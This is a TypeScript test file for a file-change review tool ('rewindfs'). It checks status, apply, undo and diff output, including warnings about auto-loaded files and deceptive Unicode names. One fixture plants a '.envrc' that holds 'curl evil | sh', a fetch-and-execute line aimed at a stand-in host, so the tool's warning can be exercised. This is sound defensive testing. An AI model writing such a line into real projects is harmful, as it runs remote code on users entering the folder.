import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";

import { importDirectory } from "../../../src/host/index.ts";
import { rewindfs, shown } from "../../support/screen/command.ts";
import { record } from "../../support/journal.ts";
import { withTemporary } from "../../support/temporary.ts";

it("status and the plan of an apply count alike, spell out names that deceive, and warn of what is left", () => {
  withTemporary((folder) => {
    mkdirSync(join(folder, "work", "old"), { recursive: true });
    for (const name of ["a.txt", "old/x", "old/y"])
      writeFileSync(join(folder, "work", name), "a\n");
    record(join(folder, "rewind.db"), ({ files, ...step }) => {
      importDirectory(files, join(folder, "work"), "/in");
      step.run("guest", [], () => {
        step.write("/in/.envrc", "curl evil | sh\n");
        step.write("/in/a.txt", "b\n");
        step.write("/in/in\u2010between.txt", "c\n");
        for (const path of ["/in/old/x", "/in/old/y", "/in/old"]) step.remove(path);
      });
    });
    const see = (...args: string[]) => shown(rewindfs(folder, args)).replaceAll(folder, "FOLDER");
    const status = () => see("status").replace(/journal .*/, "");
    expect(status()).toMatchInlineSnapshot(`
      "/in → FOLDER/work
        6 paths to apply, by run 2
          modified  a.txt
          removed   old
          removed   old/x
          removed   old/y
          added     .envrc
          added     in\\u{2010}between.txt
        ! /in/.envrc: a shell loads it when the folder is entered

      --- exit 0"
    `);
    expect(see("apply", "work", "a.txt", ".envrc")).toMatchInlineSnapshot(`
      "modified  a.txt
      added     .envrc  ! a shell loads it when the folder is entered
      --- stderr
      run 3: 2 paths applied to work, 4 not asked for
      --- exit 0"
    `);
    // Nothing is to be decided about a file that was applied.
    expect(status()).toMatchInlineSnapshot(`
      "/in → FOLDER/work
        4 paths to apply, by run 2
          removed   old
          removed   old/x
          removed   old/y
          added     in\\u{2010}between.txt

      --- exit 0"
    `);
    expect(see("apply", "work", "--dry-run")).toMatchInlineSnapshot(`
      "removed   old/
      removed   old/x
      removed   old/y
      added     in\\u{2010}between.txt
      --- stderr
      4 paths would be applied to work; nothing was done
      --- exit 0"
    `);
    expect(see("undo")).toMatchInlineSnapshot(`
      "--- stderr
      rewindfs: run 3 changed nothing here: an apply changes the host
      Hint: \`apply DIR --undo\` puts back what DIR had; \`undo --run 2\` takes back the run before, and another \`apply\` brings that to the host
      --- exit 1"
    `);
  });
});

it("diff shows what a reader looks for, and of a path that it knows nothing of the one that was meant", () => {
  withTemporary((folder) => {
    mkdirSync(join(folder, "work"));
    for (const name of ["a.txt", "b.txt"]) writeFileSync(join(folder, "work", name), "a\n");
    mkdirSync(join(folder, "work", ".git"));
    record(join(folder, "rewind.db"), ({ files, ...step }) => {
      importDirectory(files, join(folder, "work"), "/in");
      step.run("guest", [], () => {
        step.write("/in/a.txt", "b\n");
        for (const name of ["index", "config"]) step.write(`/in/.git/${name}`, "x\n");
      });
    });
    const see = (...args: string[]) => shown(rewindfs(folder, args));
    // Git's configuration is to be seen; what it writes at each command is in the way.
    expect(see("diff", "--name-only").replaceAll(folder, "FOLDER")).toMatchInlineSnapshot(`
      "/in/.git/config
      /in/a.txt
      --- stderr
      not applied to FOLDER/work yet:
      left out 1 path that git writes at each command; rewindfs diff -- /in/.git shows them
      --- exit 0"
    `);
    expect(see("diff", "--name-only", "--", "/in/.git")).toContain("/in/.git/index");
    const meant = /Hint: did you mean \/in\/a\.txt\?\n--- exit [12]$/;
    expect(see("diff", "--", "a.txt")).toMatch(meant);
    expect(see("undo", "--", "a.txt")).toMatch(meant);
    expect(see("diff", "a.txt")).toContain("put it after --: rewindfs diff -- /in/a.txt");
    // One that is there and did not change is no mistake.
    expect(see("diff", "--", "/in/b.txt")).toBe("--- exit 0");
  });
});
